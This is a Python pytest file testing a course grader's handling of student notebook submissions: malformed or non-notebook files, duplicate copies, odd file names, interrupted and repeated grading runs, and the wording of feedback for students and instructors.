"""What an instructor's folder of submissions really holds, and what the grader makes of it: notebooks that Jupyter
runs but nbformat's schema refuses, copies saved in the same instant, a broken re-upload, names that are not UTF-8,
Canvas's bulk-download names, the grades' own folder inside the submissions, Ctrl-C, a report that cannot be written.

Most tests here stand the notebook's run in for a stub (``grade_submission``): what they check is which files are
graded and what is written, not the scores; the first one grades for real."""

from __future__ import annotations

import importlib
import json
import os
import shutil
import signal
import threading
import time
from pathlib import Path

import nbformat
import pytest
from test_bad_input import one_line_error
from test_grading import exercise_solution
from test_zygote import notebook

from dpo_teach import grading
from dpo_teach.cli import main as cli
from dpo_teach.grading import gradescope, runner, sandbox, submissions
from dpo_teach.grading.reports import empty_row

KL = "01_kl_objective"
grade_module = importlib.import_module("dpo_teach.grading.grade")  # the package's `grade` is the function
NEEDS_SANDBOX = pytest.mark.skipif(sandbox.unavailable_reason() is not None, reason="needs the sandbox")


def as_vscode_saved_it(nb) -> dict:
    """The solution as some editors save it: nbformat 4.4 with 4.5's cell ids kept, a markdown cell that kept
    outputs, a stream output with metadata, a code cell without execution_count. Jupyter opens and runs it."""
    raw = json.loads(nbformat.writes(nb))
    raw["nbformat_minor"] = 4
    markdown = next(c for c in raw["cells"] if c["cell_type"] == "markdown")
    markdown.update(outputs=[], execution_count=None)
    code = [c for c in raw["cells"] if c["cell_type"] == "code"]
    code[0]["outputs"] = [{"output_type": "stream", "name": "stdout", "text": ["hi\n"], "metadata": {}}]
    del code[-1]["execution_count"]
    return raw


def run_cli(folder: Path, out: Path, assigned: Path, capsys) -> tuple[int, str, str]:
    code = cli(["grade", str(folder), "--out", str(out), "--autograder-dir", str(assigned / "autograder"), "--unsafe"])
    captured = capsys.readouterr()
    return code, captured.out, captured.err


@NEEDS_SANDBOX
def test_a_notebook_jupyter_runs_is_graded_though_nbformat_schema_refuses_it(assigned, notebook_reference, tmp_path):
    raw = as_vscode_saved_it(exercise_solution(assigned, KL))
    with pytest.raises(nbformat.ValidationError):  # what the grader checked before: every such student got a 0
        nbformat.validate(nbformat.from_dict(raw))
    folder = tmp_path / "in"
    folder.mkdir()
    (folder / f"vscode_{KL}.ipynb").write_text(json.dumps(raw))
    (folder / f"nocells_{KL}.ipynb").write_text(json.dumps({"nbformat": 4, "nbformat_minor": 5, "metadata": {}}))
    report = grade_module.grade(folder, tmp_path / "out", autograder=assigned / "autograder")
    rows = {r["student"]: r for r in report["results"]}
    assert (rows["vscode"]["status"], rows["vscode"]["score"], rows["vscode"]["possible"]) == ("graded", 5.0, 5.0), \
        rows["vscode"]["reason"]
    assert rows["nocells"]["status"] == "invalid" and "cells" in rows["nocells"]["reason"]
    assert all(q["hidden_failed"] == [] for q in rows["vscode"]["questions"].values())  # every hidden test passed


@NEEDS_SANDBOX
def test_a_notebook_finds_pi_ref_in_the_graders_default_cache(assigned, notebook_reference, private_cache, tmp_path,
                                                             monkeypatch):
    """Without $DPO_TEACH_CACHE the grader's cache is ~/.cache/dpo-teach, but a notebook's process has a fresh home
    of its own: there it found no π_ref, and each notebook that loads it (04, 05, 07) built it again. The grader
    names its cache to the notebooks."""
    from dpo_teach.world import CACHE_ENV, WorldConfig, cache_entry

    cache = tmp_path / "home" / ".cache" / "dpo-teach"
    cache.mkdir(parents=True)
    for entry in private_cache.iterdir():  # the suite's π_ref, as an instructor's first run would have cached it
        (cache / entry.name).symlink_to(entry.resolve(), target_is_directory=True)
    monkeypatch.setenv("HOME", str(tmp_path / "home"))
    monkeypatch.delenv(CACHE_ENV)
    assert cache_entry(WorldConfig(preset="tiny")).parent == cache
    nb = exercise_solution(assigned, KL)
    nb.cells.append(nbformat.v4.new_code_cell(
        "from dpo_teach.world import WorldConfig, cache_entry\n"
        "entry = cache_entry(WorldConfig(preset='tiny'))\n"
        "assert entry.is_dir(), f'no π_ref at {entry}'"))
    folder = tmp_path / "in"
    folder.mkdir()
    nbformat.write(nb, folder / f"ada_{KL}.ipynb")
    (row,) = grade_module.grade(folder, tmp_path / "out", autograder=assigned / "autograder")["results"]
    assert row["errors"] == [] and row["score"] == row["possible"] == 5.0, row["reason"]


def test_a_cell_without_source_is_read_as_the_runner_runs_it_and_a_source_that_is_no_text_is_not(tmp_path):
    """The runner reads a cell without ``source`` as empty (``runner.code_cells``); the check before it must not
    refuse what the runner would run."""
    cells = [{"cell_type": "markdown", "metadata": {}}, {"cell_type": "code", "metadata": {}, "outputs": [],
                                                        "execution_count": None, "source": ["x = 1\n", "x"]}]
    path = tmp_path / "nb.ipynb"
    path.write_text(json.dumps({"nbformat": 4, "nbformat_minor": 4, "metadata": {}, "cells": cells}))
    nb, problem = submissions.read_notebook(path)
    assert problem is None and [src for _, src in runner.code_cells(nb)] == ["x = 1\nx"]
    cells[0]["source"] = 7
    path.write_text(json.dumps({"nbformat": 4, "nbformat_minor": 4, "metadata": {}, "cells": cells}))
    nb, problem = submissions.read_notebook(path)
    assert nb is None and "cell 1" in problem and "not text" in problem


NOT_NOTEBOOKS = [  # what a file named .ipynb often is, and what the grader's reason says of it
    (b"", "the file is empty (an upload that failed): ask the student to upload it again"),
    (b"PK\x03\x04\x14\x00", "it is a zip archive named .ipynb (an LMS download): unzip it"),
    (b"%PDF-1.7\n", "it is a PDF named .ipynb: ask the student for the .ipynb file"),
    (b"<!DOCTYPE html><html>", "it is a web page (HTML) named .ipynb"),
    (b'{"cells": [{"cell_type": "code", "source": "x = 1', "it stops before its end (an upload or a save that was cut"),
    (b'{"cells": [{"cell_type": "code"}]', "it stops before its end"),
    (b'{"cells": [}, "x": 1}', "its JSON is broken at line 1, column 12 (Expecting value)"),
    (b"\x8a\x01\xff", "it is not text (UTF-8)"),
    # UTF-16 (a Windows editor's save): whole, and cut short, which stopped the whole batch with a codec's error
    ('{"cells": [], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}'.encode("utf-16"), "it is not text (UTF-8)"),
    ('{"cells": [], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}'.encode("utf-16")[:21], "not text (UTF-8)"),
    (b"\xff\xfe{}", "it is not text (UTF-8)"),
    (b"[1, 2]", "it is JSON (a list without \"nbformat\") but no notebook"),
]


@pytest.mark.parametrize("content, says", NOT_NOTEBOOKS)
def test_a_file_that_is_no_notebook_says_what_it_is_and_what_to_do(tmp_path, content, says):
    """An empty upload, a zip or a PDF named .ipynb and a truncated upload each read "not a valid notebook
    (NotJSONError: ...)" or a codec's error: the student and the instructor learnt neither what the file is nor
    what to do."""
    path = tmp_path / "ann_03_deriving_dpo.ipynb"
    path.write_bytes(content)
    nb, problem = submissions.read_notebook(path)
    assert nb is None and problem.startswith("not a valid notebook: ") and says in problem, problem
    assert "Error" not in problem, problem  # no exception's name: words an instructor can act on


INSTRUCTOR_WORDS = ("the student", "grade again", "submissions folder", "--")  # what only the instructor can act on


def test_a_student_reads_what_to_do_about_a_file_not_what_the_instructor_should(tmp_path):
    """The reason of a file that is no notebook tells the instructor what to do ("ask the student to upload it
    again"); the feedback files and Gradescope showed the student those words. ``for_student`` gives every such
    reason the student's action, and keeps what the file is."""
    from dpo_teach.grading.grade import _not_a_notebook
    from dpo_teach.grading.reports import for_student

    problems = []
    for i, (content, _) in enumerate(NOT_NOTEBOOKS):
        (tmp_path / f"{i}.ipynb").write_bytes(content)
        problems.append(submissions.read_notebook(tmp_path / f"{i}.ipynb")[1])
    problems.append(submissions._not_json(tmp_path))  # cannot be read: a folder
    (tmp_path / "alice").mkdir()
    problems += [_not_a_notebook("alice", tmp_path / name, tmp_path)["problem"]
                 for name in ("hw.zip", "hw.tar.gz", "hw.py", "alice/hw.zip")]
    for problem in problems:
        said = for_student(problem)
        assert not [w for w in INSTRUCTOR_WORDS if w in said], (problem, said)
        action = min(problem.find(w) for w in INSTRUCTOR_WORDS if w in problem)
        assert said.startswith(problem[:problem.rfind(": ", 0, action) + 2]), (problem, said)  # what the file is
    assert for_student(problems[0]).endswith("(an upload that failed): upload it again"), problems[0]
    assert for_student(problems[2]).endswith(": hand in the .ipynb file (Jupyter: File > Download)"), problems[2]


def test_every_action_for_the_instructor_in_a_reason_has_the_students_words():
    """A reason written later that tells the instructor to ask the student or to grade again is caught here, before a
    student reads it: every such string in the grading package, read by ``for_student``, says neither."""
    import ast

    from dpo_teach.grading.reports import for_student

    found = []
    for path in sorted(Path(submissions.__file__).parent.glob("*.py")):
        tree = ast.parse(path.read_text(encoding="utf-8"))
        parts = {id(v) for n in ast.walk(tree) if isinstance(n, ast.JoinedStr) for v in n.values}
        for node in ast.walk(tree):
            if isinstance(node, ast.JoinedStr):  # its values as "x": the name or the folder it names
                text = "".join(v.value if isinstance(v, ast.Constant) else "x" for v in node.values)
            elif isinstance(node, ast.Constant) and isinstance(node.value, str) and id(node) not in parts:
                text = node.value
            else:
                continue
            if ("ask the student" in text or text.endswith("grade again")) and path.name != "reports.py":
                found.append((path.name, node.lineno, text, for_student(text)))
    assert len(found) >= 8, found  # the reasons of submissions.py and grade.py: no longer found, the test is blind
    assert not [f for f in found if "the student" in f[3] or "grade again" in f[3]], found


def test_a_long_message_in_a_reason_is_cut_after_a_word_and_says_so():
    """The one-line reason cut a test's message at 80 characters, mid-word and without a mark: students read
    "...is β applied to the whole h,)"."""
    from dpo_teach.grading.reports import lost_points

    message = ("AssertionError: for a margin of −1999 the loss is 1999 (got 23.03): inf or nan means "
               "−log(sigmoid(...)), use −F.logsigmoid")
    reason = lost_points({"dpo_loss": {"score": 0.0, "possible": 2.0, "feedback": message}})
    quoted = reason.split("(", 1)[1].rsplit(")", 1)[0]
    assert quoted.endswith("…") and len(quoted) <= 80 and message.startswith(quoted[:-1]), reason
    assert message[len(quoted) - 1] == " ", f"cut inside a word: {reason}"


def test_grades_by_student_is_one_row_per_student_for_a_gradebook():
    """grades.csv has a row per file, a superseded 0 beside the graded score, and totals only over what a student
    handed in: a gradebook import could take the 0, and a student with a missing notebook looked complete. The
    by-student file has one row per student, a column per assignment, the total over every assignment of the batch
    and what to look at."""
    import csv
    import io

    from dpo_teach.grading.reports import per_student, students_csv

    def row(student, assignment, status, score, file=None):
        return {**empty_row(student, Path(file or f"{student}_{assignment}.ipynb"), assignment, status),
                "score": score}

    questions = {"01": {"q1": {"points": 5, "manual": False}},
                 "03": {"q3": {"points": 6, "manual": False}, "open": {"points": 2, "manual": True}}}
    report = {"assignments": {a: {"questions": q} for a, q in questions.items()},
              "results": [row("bob", "01", "flagged", 0.0), row("alice", "01", "graded", 5.0),
                          row("alice", "01", "superseded", 0.0), row("Bob", "03", "graded", 6.0),
                          row("carol", None, "error", 0.0, "hw1.ipynb")]}
    report["students"] = per_student(report["results"])  # as grade() writes it
    got = list(csv.reader(io.StringIO(students_csv(report))))
    assert got == [["student", "01", "03", "total", "possible (auto-graded)", "to check"],
                   ["alice", "5.0", "", "5.0", "11", ""],
                   ["Bob", "", "6.0", "6.0", "11", ""],
                   ["bob", "0.0", "", "0.0", "11", "01: flagged"],
                   ["carol", "", "", "0.0", "11", "hw1.ipynb: error"]], got


def test_the_instructor_reads_what_a_failed_hidden_test_says_and_the_student_does_not():
    """"hidden test 2 of 3 failed" is all a student sees; the instructor's grades.json says which assert failed."""
    from dpo_teach.grading.reports import row_reason

    cases = [{"passed": True, "hidden": False, "message": ""},
             {"passed": True, "hidden": True, "message": ""},
             {"passed": False, "hidden": True, "message": "AssertionError: p(y) = 0 must contribute 0"},
             {"passed": False, "hidden": True, "message": ""}]
    assert grade_module._hidden_failures(cases) == ["hidden test 2 of 3: AssertionError: p(y) = 0 must contribute 0",
                                                    "hidden test 3 of 3: (no message)"]
    public_passed, feedback = grade_module._public_feedback(cases)
    row = {**empty_row("ann", Path(f"ann_{KL}.ipynb"), KL, "graded"), "score": 0.0, "possible": 2.0,
           "questions": {"kl_divergence": {"score": 0.0, "possible": 2.0, "public_passed": public_passed,
                                           "feedback": feedback,
                                           "hidden_failed": grade_module._hidden_failures(cases)}}}
    assert "must contribute" not in row_reason(row) and "hidden test 2 of 3" in row_reason(row)
    assert "must contribute" not in gradescope._student_output(row, set())


def test_of_copies_saved_in_the_same_instant_the_higher_copy_number_is_the_later(tmp_path):
    """A ``git clone`` (GitHub Classroom) or an unzipped archive gives every file the same modification time: the
    re-download ``(1)`` is still the later one, and ``(10)`` is later than ``(2)``."""
    names = [f"alice_{KL}.ipynb", f"alice_{KL} (1).ipynb", f"alice_{KL} (2).ipynb", f"alice_{KL} (10).ipynb",
             f"Copy of bob_{KL}.ipynb", f"bob_{KL}.ipynb", f"carl_{KL}-Copy2.ipynb", f"carl_{KL}-Copy1.ipynb"]
    for i, name in enumerate(names):  # written in the order a clone writes them, a few milliseconds apart
        (tmp_path / name).write_text(notebook("x = 1"))
        os.utime(tmp_path / name, (1_700_000_000 - 0.01 * i, 1_700_000_000 - 0.01 * i))
    found, manifests = submissions.find_submissions(tmp_path, [KL]), {KL: {}}
    assert {s for s, _ in found} == {"alice", "bob", "carl"}

    def superseded() -> set[str]:
        names, readable = submissions.assignments(found, manifests, None)
        return {p.name for p in submissions.superseded_by_latest(found, names, readable, manifests)}

    kept = {p.name for _, p in found} - superseded()
    assert kept == {f"alice_{KL} (10).ipynb", f"Copy of bob_{KL}.ipynb", f"carl_{KL}-Copy2.ipynb"}
    os.utime(tmp_path / f"alice_{KL}.ipynb", (1_700_000_060, 1_700_000_060))  # saved again a minute later
    assert f"alice_{KL}.ipynb" not in superseded(), "a later save is later, whatever its name"
    number = submissions.copy_number
    assert number(f"alice_{KL}") == () < number(f"alice_{KL} (2)") < number(f"alice_{KL} (10)")


def test_a_broken_re_upload_does_not_cost_the_points_of_the_notebook_before_it(tmp_path, assigned, stub_grading,
                                                                              capsys):
    folder = tmp_path / "in"
    folder.mkdir()
    (folder / f"alice_{KL}.ipynb").write_text(notebook("x = 1"))
    (folder / f"alice_{KL} (1).ipynb").write_text("")  # newer, empty: an upload that broke off
    os.utime(folder / f"alice_{KL}.ipynb", (time.time() - 60, time.time() - 60))
    (folder / f"bob_{KL}.ipynb").write_text('{"cells": [')  # bob's only notebook: graded, as invalid
    code, out, err = run_cli(folder, tmp_path / "out", assigned, capsys)
    assert code == 0, err
    report = json.loads((tmp_path / "out" / "grades.json").read_text())
    rows = {Path(r["file"]).name: r for r in report["results"]}
    broken = rows[f"alice_{KL} (1).ipynb"]
    assert broken["status"] == "superseded" and "cannot be read" in broken["reason"], broken
    assert f"alice_{KL}.ipynb, this student's other notebook" in broken["reason"]
    assert sorted(stub_grading) == [f"alice_{KL}.ipynb", f"bob_{KL}.ipynb"], "bob's only notebook is graded"
    assert report["students"]["alice"]["possible"] == 1.0, "the broken copy added to alice's total"


def test_names_that_are_not_utf8_are_graded_and_written(tmp_path, assigned, stub_grading, capsys):
    """Unzipped from a Windows archive, a name keeps its Latin-1 bytes: the batch is graded and its reports written
    (before: the batch stopped before any notebook, or after all of them without a report), the name shown with
    escapes; a rerun resumes it."""
    folder = tmp_path / "in"
    student = folder / os.fsdecode(b"Fran\xe7ois")
    student.mkdir(parents=True)
    (student / "hw.ipynb").write_text(json.dumps(nbformat.v4.new_notebook(
        cells=[nbformat.v4.new_code_cell("x = 1")], metadata={"otter": {"assignment_name": KL}})))
    (folder / os.fsdecode(b"Jos\xe9_notes.pdf")).write_bytes(b"%PDF")
    code, out, err = run_cli(folder, tmp_path / "out", assigned, capsys)
    assert code == 0, err
    report = json.loads((tmp_path / "out" / "grades.json").read_text(encoding="utf-8"))
    assert {r["student"] for r in report["results"]} == {"Fran\\xe7ois", "Jos\\xe9_notes"}
    assert "Fran\\xe7ois" in (tmp_path / "out" / "grades.csv").read_text(encoding="utf-8") and "Fran\\xe7ois" in out
    assert report["students"]["Fran\\xe7ois"]["score"] == 1.0


def test_names_that_differ_only_in_case_are_one_student(tmp_path):
    """ALICE_01 and alice_03 used to be two students, each with one assignment's grade; a sub-folder Bob/ beside a
    file bob_01 too."""
    for name in (f"ALICE_{KL}.ipynb", "alice_03_deriving_dpo.ipynb", "alice_02_bradley_terry.ipynb", f"bob_{KL}.ipynb"):
        (tmp_path / name).write_text(notebook("x = 1"))
    (tmp_path / "Bob").mkdir()
    (tmp_path / "Bob" / "03_deriving_dpo.ipynb").write_text(notebook("x = 1"))
    found = submissions.find_submissions(tmp_path, [KL, "02_bradley_terry", "03_deriving_dpo"])
    assert sorted(found) == sorted([("alice", tmp_path / f"ALICE_{KL}.ipynb"),
                                    ("alice", tmp_path / "alice_02_bradley_terry.ipynb"),
                                    ("alice", tmp_path / "alice_03_deriving_dpo.ipynb"),
                                    ("Bob", tmp_path / "Bob" / "03_deriving_dpo.ipynb"),
                                    ("Bob", tmp_path / f"bob_{KL}.ipynb")]), found


def test_canvas_download_names_keep_one_student_across_uploads_and_deadlines():
    names = [KL, "02_bradley_terry"]
    assert submissions.student_name(f"smithjohn_12345_67890_{KL}", names) == "smithjohn_12345"
    assert submissions.student_name("smithjohn_12345_71234_02_bradley_terry", names) == "smithjohn_12345"
    assert submissions.student_name(f"smithjohn_LATE_12345_99999_{KL}-1", names) == "smithjohn_12345"
    assert submissions.student_name(f"alice_{KL}", names) == "alice"
    assert submissions.student_name(f"bob_2024_{KL}", names) == "bob_2024"
    # no assignment's name: the whole name, never a guess that would make two students one
    alice, bob = (submissions.student_name(f"lab_2024_1205_{s}", names) for s in ("alice", "bob"))
    assert alice != bob, alice
    assert submissions.student_name("smithjohn_12345_67890_hw1 (1)", names) == "smithjohn_12345_67890_hw1"


def test_the_grades_folder_inside_the_submissions_is_not_graded(tmp_path, assigned, stub_grading, capsys):
    for folder, out in ((tmp_path / "a", tmp_path / "a" / "grades"), (tmp_path / "b", tmp_path / "b"),
                        (tmp_path / "c" / "in", tmp_path / "c")):  # inside, the folder itself, above it (where
        # nothing is to be skipped but the grades' files: the rule must not hide the submissions themselves)
        folder.mkdir(parents=True)
        (folder / f"alice_{KL}.ipynb").write_text(notebook("x = 1"))
        for _ in range(2):  # the rerun finds the first run's grades there
            code, printed, err = run_cli(folder, out, assigned, capsys)
            assert code == 0, err
            report = json.loads((out / "grades.json").read_text())
            assert [r["student"] for r in report["results"]] == ["alice"], printed
    shutil.copytree(tmp_path / "a" / "grades", tmp_path / "c" / "in" / "old")  # an earlier batch's --out in there
    code, printed, err = run_cli(tmp_path / "c" / "in", tmp_path / "c", assigned, capsys)
    assert code == 0 and "0 other files skipped" in printed, (printed, err)
    assert [r["student"] for r in json.loads((tmp_path / "c" / "grades.json").read_text())["results"]] == ["alice"]


def test_assignment_names_the_notebooks_whose_metadata_names_none(tmp_path, assigned, stub_grading, capsys):
    """`--assignment 01`: a notebook that says it is 03 (its otter metadata) is graded as 03, not as a later 01 that
    superseded the student's real 01 (which then scored 0, with no word); a notebook whose metadata names no
    assignment is graded as 01."""
    def saying(assignment: str | None) -> str:
        nb = json.loads(notebook("x = 1"))
        if assignment:
            nb["metadata"]["otter"] = {"assignment_name": assignment}
        return json.dumps(nb)

    folder = tmp_path / "in"
    folder.mkdir()
    (folder / f"alice_{KL}.ipynb").write_text(saying(KL))
    (folder / "alice_03_deriving_dpo.ipynb").write_text(saying("03_deriving_dpo"))
    os.utime(folder / f"alice_{KL}.ipynb", (time.time() - 60, time.time() - 60))  # the 03 is the later file
    (folder / "bob_homework.ipynb").write_text(saying(None))
    code = cli(["grade", str(folder), "--out", str(tmp_path / "out"), "--autograder-dir", str(assigned / "autograder"),
                "--unsafe", "--assignment", KL])
    printed = capsys.readouterr().out
    assert code == 0, printed
    rows = {(r["student"], r["assignment"]): r["status"]
            for r in json.loads((tmp_path / "out" / "grades.json").read_text())["results"]}
    assert rows == {("alice", KL): "graded", ("alice", "03_deriving_dpo"): "graded",
                    ("bob_homework", KL): "graded"}, rows
    assert "1 notebook names another assignment in its metadata and is graded as it, not as 01_kl_objective" in printed


def test_a_folder_above_the_students_folders_grades_each_student(tmp_path, assigned, stub_grading, capsys,
                                                                  monkeypatch):
    """`grade subs` where subs/section1/alice/ and subs/section1/bob/ hold the notebooks: section1 is not one student
    whose later notebook supersedes the other's (bob's used to cost alice her grade, with no word), each sub-folder
    is a student, and the grader says how to name them by their folders alone. One student's own sub-folder
    (carol/week1/) still makes carol. Each notebook is read once to tell its assignment, sections or not."""
    reads = []
    read_notebook = submissions.read_notebook
    monkeypatch.setattr(submissions, "read_notebook", lambda path: reads.append(path.name) or read_notebook(path))
    for student in ("alice", "bob"):
        (tmp_path / "in" / "section1" / student).mkdir(parents=True)
        (tmp_path / "in" / "section1" / student / f"{KL}.ipynb").write_text(notebook("x = 1"))
    (tmp_path / "in" / "carol" / "week1").mkdir(parents=True)
    (tmp_path / "in" / "carol" / "week1" / f"{KL}.ipynb").write_text(notebook("x = 1"))
    code, printed, err = run_cli(tmp_path / "in", tmp_path / "out", assigned, capsys)
    assert code == 0, err
    rows = {r["student"]: r["status"] for r in json.loads((tmp_path / "out" / "grades.json").read_text())["results"]}
    assert rows == {"section1/alice": "graded", "section1/bob": "graded", "carol": "graded"}, printed
    assert f"to name them by their folders alone, pass {tmp_path / 'in' / 'section1'}" in printed, printed
    # carol/week1 reads the same as a section of one student (section2/zoe, credited to "section2" without a word)
    assert (f"carol: graded as one student, carol, whose notebooks lie in carol/week1; if carol is a section with one "
            f"student, grade {tmp_path / 'in' / 'carol'} on its own to name the student week1") in printed, printed
    assert reads == [f"{KL}.ipynb"] * 3, reads


def test_no_sections_grades_a_students_folders_of_attempts_as_one_student(tmp_path, assigned, stub_grading, capsys):
    """in/alice/attempt1/ and in/alice/attempt2/ each hold 01: read as a section, they were two students,
    alice/attempt1 and alice/attempt2, each with a total of its own. The grader says so and names --no-sections,
    with which alice is one student whose later attempt is graded and the earlier one superseded."""
    for attempt, when in (("attempt1", 1_700_000_000), ("attempt2", 1_700_000_100)):
        (tmp_path / "in" / "alice" / attempt).mkdir(parents=True)
        path = tmp_path / "in" / "alice" / attempt / f"{KL}.ipynb"
        path.write_text(notebook(f"x = '{attempt}'"))
        os.utime(path, (when, when))
    code, printed, err = run_cli(tmp_path / "in", tmp_path / "out", assigned, capsys)
    assert code == 0, err
    assert "if they are alice's own attempts, pass --no-sections" in printed, printed
    code = cli(["grade", str(tmp_path / "in"), "--out", str(tmp_path / "out2"), "--autograder-dir",
                str(assigned / "autograder"), "--unsafe", "--no-sections"])
    printed = capsys.readouterr().out
    assert code == 0 and "--no-sections" not in printed, printed
    report = json.loads((tmp_path / "out2" / "grades.json").read_text())
    rows = {Path(r["file"]).parent.name: (r["student"], r["status"]) for r in report["results"]}
    assert rows == {"attempt1": ("alice", "superseded"), "attempt2": ("alice", "graded")}, rows
    assert list(report["students"]) == ["alice"] and stub_grading[-1:] == [f"{KL}.ipynb"]


def test_an_out_inside_a_students_folder_is_refused_not_left_out(tmp_path, assigned, stub_grading, capsys):
    """`--out in/alice`: everything under --out is the grader's, so alice's notebook was skipped and she was missing
    from the grades without a word. Refused before any notebook runs, naming what it holds."""
    for student in ("alice", "bob"):
        (tmp_path / "in" / student).mkdir(parents=True)
        (tmp_path / "in" / student / f"{KL}.ipynb").write_text(notebook("x = 1"))
    code, _, err = run_cli(tmp_path / "in", tmp_path / "in" / "alice", assigned, capsys)
    assert code == 2 and stub_grading == [], err
    assert len(err.strip().splitlines()) == 1 and err.startswith("dpo-teach grade: error: --out "), err
    assert f"holds 1 notebook ({KL}.ipynb) that would not be graded" in err, err


def test_another_batch_into_the_same_out_keeps_an_interrupted_batchs_rows(tmp_path, assigned, monkeypatch, capsys):
    """Batch a is interrupted after alice; batch b, graded into the same --out (the default results/grades, say),
    finishes. Its journal used to be deleted whole, a's rows with it, so a's rerun graded alice again; now b takes
    out only its own rows and a's rerun grades only bob. That rerun would replace b's grades: it is refused, before
    any notebook runs, until b's reports are moved away (a finished batch's grades were replaced without a word)."""
    graded = []

    def grade_submission(student, path, manifests, assignment, *args, **kwargs):
        graded.append(student)
        if student == "bob" and graded.count("bob") == 1:
            raise KeyboardInterrupt  # Ctrl-C while bob's notebook runs
        return {**empty_row(student, path, assignment or KL, "graded"), "score": 1.0, "possible": 1.0}

    monkeypatch.setattr(grade_module, "grade_submission", grade_submission)
    for folder, students in (("a", ("alice", "bob")), ("b", ("carol",))):
        (tmp_path / folder).mkdir()
        for student in students:
            (tmp_path / folder / f"{student}_{KL}.ipynb").write_text(notebook(f"x = '{student}'"))
    assert run_cli(tmp_path / "a", tmp_path / "out", assigned, capsys)[0] == 130
    assert run_cli(tmp_path / "b", tmp_path / "out", assigned, capsys)[0] == 0
    code, _, err = run_cli(tmp_path / "a", tmp_path / "out", assigned, capsys)
    assert code == 2 and graded == ["alice", "bob", "carol"] and len(err.strip().splitlines()) == 1, err
    assert f"--out {tmp_path / 'out'} holds the grades of another folder, {tmp_path / 'b'}: grading " in err, err
    assert f"move its reports (grades.csv, grades.json, grades_by_student.csv) out of {tmp_path / 'out'} first" in err
    (tmp_path / "b-grades").mkdir()
    for name in ("grades.csv", "grades.json", "grades_by_student.csv"):
        (tmp_path / "out" / name).rename(tmp_path / "b-grades" / name)
    code, printed, err = run_cli(tmp_path / "a", tmp_path / "out", assigned, capsys)
    assert code == 0 and "1 graded before" in printed, (printed, err)
    assert graded == ["alice", "bob", "carol", "bob"], graded
    assert not (tmp_path / "out" / "grades.partial.jsonl").exists(), "every batch finished: nothing left to resume"


def test_grades_of_another_batch_name_an_out_to_pass_even_for_the_root(tmp_path, assigned):
    """`grade /` into an --out holding another folder's grades suggested `--out OUT-`: the root has no name."""
    (tmp_path / "out").mkdir()
    (tmp_path / "out" / "grades.json").write_text(json.dumps({"submissions_path": str(tmp_path / "b")}))
    with pytest.raises(ValueError, match=rf"pass another --out \(e\.g\. {tmp_path / 'out'}-root\)"):
        grading.grade(Path("/"), tmp_path / "out", autograder=assigned / "autograder")


def test_a_rerun_says_which_rows_it_takes_and_which_it_grades_again(tmp_path, assigned, monkeypatch, capsys):
    """A rerun under other settings (here --timeout) grades again what an interrupted run graded, and says so: it
    used to print "0 graded before" beside the rows it set aside. A row taken from the journal says it was graded
    before, not the seconds it took then."""
    graded = []

    def grade_submission(student, path, manifests, assignment, *args, **kwargs):
        graded.append(student)
        if student == "bob" and graded.count("bob") < 3:
            raise KeyboardInterrupt  # Ctrl-C while bob's notebook runs, twice
        return {**empty_row(student, path, assignment or KL, "graded"), "score": 1.0, "possible": 1.0, "seconds": 42}

    monkeypatch.setattr(grade_module, "grade_submission", grade_submission)
    (tmp_path / "in").mkdir()
    for student in ("alice", "bob"):
        (tmp_path / "in" / f"{student}_{KL}.ipynb").write_text(notebook(f"x = '{student}'"))
    assert run_cli(tmp_path / "in", tmp_path / "out", assigned, capsys)[0] == 130
    code = cli(["grade", str(tmp_path / "in"), "--out", str(tmp_path / "out"), "--autograder-dir",
                str(assigned / "autograder"), "--unsafe", "--timeout", "300"])
    printed = capsys.readouterr().out
    assert code == 130 and graded == ["alice", "bob", "alice", "bob"], graded
    assert "0 graded before (1 graded before under other settings or from an earlier version of the file: graded " \
           "again)" in printed, printed
    code, printed, err = run_cli(tmp_path / "in", tmp_path / "out", assigned, capsys)  # the first command again
    assert code == 0 and graded[4:] == ["bob"], (graded, err)
    assert f"alice: {KL} 1/1 graded (graded before)" in printed and f"bob: {KL} 1/1 graded (42 s)" in printed, printed


def test_the_same_folder_graded_again_grades_only_a_late_submission_unless_told_to_regrade(
        tmp_path, assigned, stub_grading, capsys):
    """`dpo-teach grade in` after a late submission came in grades that one notebook and takes the others' rows from
    the last batch's grades.json (the report still lists all three); `--regrade` grades every notebook again."""
    (tmp_path / "in").mkdir()
    for student in ("alice", "bob"):
        (tmp_path / "in" / f"{student}_{KL}.ipynb").write_text(notebook(f"x = '{student}'"))
    assert run_cli(tmp_path / "in", tmp_path / "out", assigned, capsys)[0] == 0
    (tmp_path / "in" / f"carol_{KL}.ipynb").write_text(notebook("x = 'late'"))
    code, printed, err = run_cli(tmp_path / "in", tmp_path / "out", assigned, capsys)
    assert code == 0 and stub_grading[2:] == [f"carol_{KL}.ipynb"], (stub_grading, err)
    assert "2 graded before" in printed and f"alice: {KL} 1/1 graded (graded before)" in printed, printed
    report = json.loads((tmp_path / "out" / "grades.json").read_text())
    assert [r["student"] for r in report["results"]] == ["alice", "bob", "carol"]
    code = cli(["grade", str(tmp_path / "in"), "--out", str(tmp_path / "out"), "--autograder-dir",
                str(assigned / "autograder"), "--unsafe", "--regrade"])
    printed = capsys.readouterr().out
    assert code == 0 and sorted(stub_grading[3:]) == [f"{s}_{KL}.ipynb" for s in ("alice", "bob", "carol")]
    assert "every notebook graded again (--regrade)" in printed and "graded before" not in printed, printed


def test_a_reader_that_stops_reading_does_not_stop_the_batch(tmp_path, assigned, stub_grading, monkeypatch):
    """`dpo-teach grade subs | head -1`: the batch used to end at its second line with exit 2, half graded; it grades
    on and writes its reports, printing nothing more."""
    for student in ("alice", "bob", "carol"):
        (tmp_path / "in").mkdir(exist_ok=True)
        (tmp_path / "in" / f"{student}_{KL}.ipynb").write_text(notebook("x = 1"))
    read, write = os.pipe()
    os.close(read)  # the reader has gone
    with open(write, "w", buffering=1) as gone, monkeypatch.context() as patch:
        patch.setattr("sys.stdout", gone)
        code = cli(["grade", str(tmp_path / "in"), "--out", str(tmp_path / "out"), "--autograder-dir",
                    str(assigned / "autograder"), "--unsafe"])
    assert code == 0 and sorted(stub_grading) == [f"{s}_{KL}.ipynb" for s in ("alice", "bob", "carol")], code
    rows = json.loads((tmp_path / "out" / "grades.json").read_text())["results"]
    assert [r["student"] for r in rows] == ["alice", "bob", "carol"]
    assert not (tmp_path / "out" / "grades.partial.jsonl").exists()


def test_a_notebook_of_an_assignment_without_a_bundle_is_named_as_its_metadata_names_it(tmp_path, assigned, capsys):
